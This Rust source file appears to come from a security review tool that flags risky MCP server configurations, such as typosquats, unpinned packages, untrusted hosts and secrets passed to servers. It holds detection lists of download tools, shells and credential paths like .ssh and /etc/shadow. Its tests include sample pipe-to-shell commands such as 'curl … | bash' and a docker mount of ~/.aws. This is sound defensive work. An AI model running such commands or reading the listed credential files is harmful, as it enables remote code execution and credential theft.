//! MCP servers as dependencies: each server a change adds or changes is listed (`ecosystem: mcp`) and
//! judged — how it is pinned, where it runs, what it is given, how it is started. A problem the old
//! version of the same server already had is not reported again.

use std::collections::{HashMap, HashSet};
use std::sync::OnceLock;

use super::{outside_repository, Output};
use crate::manifest::mcp::{host_of, servers, Launcher, McpFormat, Server};
use crate::manifest::{is_exact, shorten};
use crate::model::{AgentFinding as Id, Change, ChangedFile, Dependency, Severity, Source};

/// Reviews the MCP servers of one changed configuration file.
pub(super) fn review_file(out: &mut Output<'_>, file: &ChangedFile, hosts: &[String]) {
    let Some(format) = McpFormat::of(&file.path) else {
        return;
    };
    // A deleted configuration starts no server: nothing to judge (removed servers are listed below).
    let parsed = if file.deleted {
        Ok(Vec::new())
    } else {
        servers(format, &file.text)
    };
    let new = match parsed {
        Ok(new) => new,
        Err(error) => {
            out.report(
                Id::ConfigUnparseable,
                file,
                1,
                format!("{}: {error}", file.path),
                None,
            );
            return;
        }
    };
    let old: HashMap<String, Server> = file
        .old_text
        .as_deref()
        .and_then(|old| servers(format, old).ok())
        .unwrap_or_default()
        .into_iter()
        .map(|s| (s.name.clone(), s))
        .collect();
    for server in &new {
        let before = old.get(&server.name);
        if before.is_some_and(|b| same_server(b, server)) {
            continue;
        }
        let change = if before.is_some() {
            Change::Changed
        } else {
            Change::Added
        };
        out.dependencies
            .push(dependency(file, server, before, change));
        let issues = issues(server, hosts);
        // What the old version already had (a disabled server had nothing: it did not run).
        let known: HashSet<Id> = before
            .filter(|b| !b.disabled)
            .map(|b| issues_of(b, hosts))
            .unwrap_or_default();
        let mut reported = false;
        if !server.disabled {
            for (id, detail, severity) in issues {
                if known.contains(&id) {
                    continue;
                }
                reported |= out.check(id).is_some();
                out.report(id, file, server.line, detail, severity);
            }
        }
        if !reported {
            let verb = if before.is_some() { "changes" } else { "adds" };
            let disabled = if server.disabled { " (disabled)" } else { "" };
            out.report(
                Id::McpServer,
                file,
                server.line,
                format!(
                    "{verb} MCP server `{}`: {}{disabled}",
                    server.name,
                    describe(server)
                ),
                None,
            );
        }
    }
    for (name, server) in &old {
        if !new.iter().any(|s| &s.name == name) {
            out.dependencies
                .push(dependency(file, server, Some(server), Change::Removed));
        }
    }
}

/// Whether two versions of a server start the same thing the same way.
fn same_server(a: &Server, b: &Server) -> bool {
    a.command == b.command
        && a.args == b.args
        && a.url == b.url
        && a.env == b.env
        && a.headers == b.headers
        && a.trusted == b.trusted
        && a.disabled == b.disabled
}

/// The server for people: `npx @scope/pkg 1.2.3`, `remote https://host/mcp`.
fn describe(server: &Server) -> String {
    let launcher = server.launcher.map_or("", Launcher::as_str);
    let version = if server.version.is_empty() {
        "(no version)".to_string()
    } else {
        server.version.clone()
    };
    match server.launcher {
        Some(Launcher::Remote) => format!("remote {}", shorten(&server.package)),
        Some(Launcher::Npx | Launcher::Bunx | Launcher::PnpmDlx | Launcher::YarnDlx)
        | Some(Launcher::Uvx | Launcher::PipxRun | Launcher::Docker) => {
            format!("{launcher} {} {version}", shorten(&server.package))
        }
        _ => shorten(&server.command_line()),
    }
}

/// The dependency list's entry for a server.
fn dependency(
    file: &ChangedFile,
    server: &Server,
    before: Option<&Server>,
    change: Change,
) -> Dependency {
    let source = match server.launcher {
        Some(Launcher::Remote) => Source::Url,
        Some(l) if l.registry().is_some() => Source::Registry,
        _ => Source::Path,
    };
    let spec = server.spec();
    let removed = change == Change::Removed;
    Dependency {
        ecosystem: "mcp",
        name: server.name.clone(),
        version: spec.clone(),
        from: before.map(Server::spec),
        to: (!removed).then(|| spec.clone()),
        source,
        manifest: file.path.clone(),
        line: server.line,
        change,
        locked: false,
        launcher: server.launcher.map(Launcher::as_str),
        package: (!server.package.is_empty()).then(|| server.package.clone()),
    }
}

fn issues_of(server: &Server, hosts: &[String]) -> HashSet<Id> {
    issues(server, hosts)
        .into_iter()
        .map(|(id, _, _)| id)
        .collect()
}

/// Everything worth saying about one server: (check, detail, severity override).
fn issues(server: &Server, hosts: &[String]) -> Vec<(Id, String, Option<Severity>)> {
    let mut found = Vec::new();
    let name = &server.name;
    let mut push = |id: Id, detail: String| found.push((id, detail, None));
    let registry = server.launcher.and_then(Launcher::registry);
    // Typosquats of well-known servers (and of the launcher's registry's popular packages).
    if matches!(registry, Some("npm" | "pypi")) && !server.package.is_empty() {
        let popular = crate::engine::deps::resembles("mcp", &server.package)
            .or_else(|| crate::engine::deps::resembles(registry.unwrap_or(""), &server.package));
        if let Some(popular) = popular {
            push(
                Id::McpTyposquat,
                format!(
                    "MCP server `{name}` runs `{}`, one slip away from the well-known `{popular}`",
                    server.package
                ),
            );
        }
    }
    match server.launcher {
        Some(Launcher::Npx | Launcher::Bunx | Launcher::PnpmDlx | Launcher::YarnDlx) => {
            if !is_exact("npm", &server.version) || server.package.contains("://") {
                push(Id::McpUnpinned, unpinned(server));
            }
        }
        Some(Launcher::Uvx | Launcher::PipxRun) => {
            if !is_exact("pypi", &server.version) {
                push(Id::McpUnpinned, unpinned(server));
            }
        }
        Some(Launcher::Docker) => {
            if !server.version.contains("@sha256:") {
                push(
                    Id::McpUnpinnedImage,
                    format!(
                        "MCP server `{name}` runs image `{}{}` without a digest",
                        server.package,
                        if server.version.is_empty() {
                            String::new()
                        } else {
                            format!(":{}", server.version)
                        }
                    ),
                );
            }
            match server.docker_network.as_deref() {
                Some("host") => push(
                    Id::McpDockerHostNetwork,
                    format!("MCP server `{name}` runs its container with `--network host`"),
                ),
                Some(_) => {}
                None => push(
                    Id::McpDockerNetwork,
                    format!("MCP server `{name}` runs its container without `--network` (full network access)"),
                ),
            }
        }
        Some(Launcher::Shell) => push(
            Id::McpShell,
            format!(
                "MCP server `{name}` is started through a shell: `{}`",
                shorten(&server.command_line())
            ),
        ),
        Some(Launcher::Node | Launcher::Python | Launcher::Program) => {
            let path = if server.launcher == Some(Launcher::Program) {
                &server.command
            } else {
                &server.package
            };
            let looks_like_path = path.contains(['/', '\\']) || path.starts_with('~');
            if looks_like_path && outside_repository(path) {
                push(
                    Id::McpLocalPath,
                    format!("MCP server `{name}` runs `{path}`, outside the repository"),
                );
            }
        }
        Some(Launcher::Remote) | None => {}
    }
    // Remote hosts: the server's URL, or the URL a local proxy (mcp-remote, mcp-proxy) connects to.
    let mut urls: Vec<&str> = server.url.as_deref().into_iter().collect();
    if server.launcher != Some(Launcher::Remote) {
        urls.extend(
            server
                .args
                .iter()
                .map(String::as_str)
                .filter(|a| a.starts_with("https://") || a.starts_with("http://")),
        );
    }
    for url in urls {
        if let Some(host) = host_of(url) {
            if !host_allowed(&host, hosts) {
                push(
                    Id::McpRemoteHost,
                    format!(
                        "MCP server `{name}` connects to `{host}`, a host outside the allowlist"
                    ),
                );
                break;
            }
        }
    }
    if server.trusted {
        push(
            Id::McpTrusted,
            format!("MCP server `{name}` is trusted: its tool calls run without confirmation"),
        );
    }
    let secrets = passed_secrets(server);
    if secrets.len() >= WHOLESALE_SECRETS || secrets.iter().any(|s| s == "*") {
        push(
            Id::McpEnvSecrets,
            format!(
                "MCP server `{name}` is given {} secrets from the environment: {}",
                secrets.len(),
                shorten(&secrets.join(", "))
            ),
        );
    }
    let line = {
        let mut line = server.command_line();
        if let Some(script) = &server.shell_script {
            line.push('\n');
            line.push_str(script);
        }
        line
    };
    if pipes_download_to_shell(&line) {
        push(
            Id::McpPipeToShell,
            format!(
                "MCP server `{name}` downloads and runs a script: `{}`",
                shorten(&server.command_line())
            ),
        );
    }
    if let Some(path) = credential_path(&line) {
        push(
            Id::McpCredentialRead,
            format!("MCP server `{name}` is given the credential files `{path}`"),
        );
    }
    found
}

/// This many secret-looking variables handed to one server is passing them wholesale.
const WHOLESALE_SECRETS: usize = 4;

fn unpinned(server: &Server) -> String {
    let version = match server.version.as_str() {
        "" => "no version".to_string(),
        v => format!("`{v}`"),
    };
    format!(
        "MCP server `{}` runs `{}` with {version}: every start can fetch a new release",
        server.name, server.package
    )
}

/// The secret-looking environment variables a server is given from the environment or configuration
/// (literal values are the secret checks' business).
fn passed_secrets(server: &Server) -> Vec<String> {
    const WORDS: [&str; 8] = [
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "API_KEY",
        "APIKEY",
        "PRIVATE_KEY",
        "CREDENTIAL",
    ];
    server
        .env
        .iter()
        .filter(|(name, _)| {
            let upper = name.to_ascii_uppercase();
            name == "*"
                || WORDS.iter().any(|w| upper.contains(w))
                || upper.ends_with("_KEY")
                || upper.ends_with("_PAT")
        })
        .map(|(name, _)| name.clone())
        .collect()
}

/// Whether a command line downloads something and hands it to a shell or interpreter.
fn pipes_download_to_shell(line: &str) -> bool {
    const FETCH: [&str; 6] = ["curl", "wget", "fetch", "iwr", "irm", "invoke-webrequest"];
    const SHELLS: [&str; 12] = [
        "sh", "bash", "zsh", "dash", "ksh", "python", "python3", "node", "perl", "ruby", "iex",
        "pwsh",
    ];
    let lower = line.to_ascii_lowercase();
    if !FETCH.iter().any(|f| lower.contains(f)) && !lower.contains("downloadstring") {
        return false;
    }
    if lower.contains("downloadstring")
        || lower.contains("invoke-expression")
        || lower.contains("| iex")
    {
        return true;
    }
    let script = crate::shell::parse(line);
    script.commands.iter().any(|cmd| {
        let program = cmd.program();
        SHELLS.contains(&program.as_str())
            && cmd
                .stdin_from
                .iter()
                .chain(&cmd.args_from)
                .filter_map(|&i| script.commands.get(i))
                .any(|src| FETCH.contains(&src.program().as_str()))
    })
}

/// A credential location a command line names, if any.
fn credential_path(line: &str) -> Option<&'static str> {
    const PATHS: [&str; 14] = [
        ".ssh",
        "id_rsa",
        "id_ed25519",
        ".aws/credentials",
        ".aws:",
        ".npmrc",
        ".netrc",
        ".git-credentials",
        ".docker/config.json",
        ".kube/config",
        ".config/gcloud",
        ".azure",
        ".gnupg",
        "/etc/shadow",
    ];
    // A path component: at the start, or after a separator, `~`, a blank, a quote, `=` or `:`
    // (`-v ~/.aws:/root/.aws`), not inside a package name (`mcp-server.sshfoo`).
    PATHS.iter().copied().find(|p| {
        line.match_indices(p).any(|(at, _)| {
            line[..at]
                .chars()
                .next_back()
                .is_none_or(|c| matches!(c, '/' | '\\' | '~' | ' ' | '"' | '\'' | '=' | ':'))
        })
    })
}

/// The built-in hosts of official remote MCP servers (`checks/popular/mcp-hosts.txt`).
fn builtin_hosts() -> &'static Vec<String> {
    static HOSTS: OnceLock<Vec<String>> = OnceLock::new();
    HOSTS.get_or_init(|| {
        let files = crate::checks::builtin_files().unwrap_or_default();
        files
            .iter()
            .filter(|(name, _)| name.as_ref() == "checks/popular/mcp-hosts.txt")
            .flat_map(|(_, text)| {
                text.lines()
                    .map(str::trim)
                    .filter(|l| !l.is_empty() && !l.starts_with('#'))
                    .map(str::to_ascii_lowercase)
                    .collect::<Vec<_>>()
            })
            .collect()
    })
}

/// Whether `host` is the loopback, a built-in host or one the configuration accepts (`*.example.com`
/// covers the subdomains).
fn host_allowed(host: &str, configured: &[String]) -> bool {
    if matches!(host, "localhost" | "127.0.0.1" | "[::1]" | "0.0.0.0") {
        return true;
    }
    builtin_hosts()
        .iter()
        .chain(configured)
        .any(|allowed| match allowed.strip_prefix("*.") {
            Some(domain) => host
                .strip_suffix(domain)
                .is_some_and(|sub| sub.ends_with('.')),
            None => host == allowed,
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_piped_to_shells() {
        assert!(pipes_download_to_shell(
            "bash -c 'curl -fsSL https://x.example/i.sh | bash'"
        ));
        assert!(pipes_download_to_shell(
            "sh -c \"$(curl -fsSL https://x.example/i.sh)\""
        ));
        assert!(!pipes_download_to_shell(
            "npx -y @modelcontextprotocol/server-fetch"
        ));
        assert!(!pipes_download_to_shell("curl -s https://x.example/health"));
    }

    #[test]
    fn credential_paths_are_path_components() {
        assert_eq!(
            credential_path("npx -y fs@1.0.0 /Users/dev/.ssh"),
            Some(".ssh")
        );
        assert_eq!(
            credential_path("docker run -v ~/.aws:/root/.aws img"),
            Some(".aws:")
        );
        assert_eq!(credential_path("cat id_rsa"), Some("id_rsa"));
        assert_eq!(credential_path("npx -y mcp-server.sshfoo@1.0.0"), None);
        assert_eq!(credential_path("npx -y @azure/mcp@1.0.0"), None);
    }

    #[test]
    fn hosts_are_matched() {
        assert!(host_allowed("localhost", &[]));
        let configured = vec!["*.corp.example".to_string(), "mcp.acme.dev".to_string()];
        assert!(host_allowed("mcp.corp.example", &configured));
        assert!(!host_allowed("corp.example.evil.io", &configured));
        assert!(!host_allowed("evilcorp.example", &configured));
        assert!(host_allowed("mcp.acme.dev", &configured));
        assert!(!host_allowed("mcp.acme.dev.evil.io", &configured));
    }
}
